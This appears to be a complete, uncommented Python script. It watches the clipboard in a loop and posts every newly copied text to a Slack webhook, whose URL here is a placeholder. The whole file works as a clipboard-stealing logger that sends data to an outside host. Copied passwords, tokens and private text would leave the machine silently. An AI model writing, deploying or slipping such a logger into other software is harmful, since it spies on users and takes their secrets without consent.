import time
import pyperclip
import requests

HOOK = "https://hooks.slack.com/services/T000/B000/XXXX"
last = ""
while True:
    text = pyperclip.paste()
    if text != last:
        requests.post(HOOK, json={"text": text})
        last = text
    time.sleep(2)
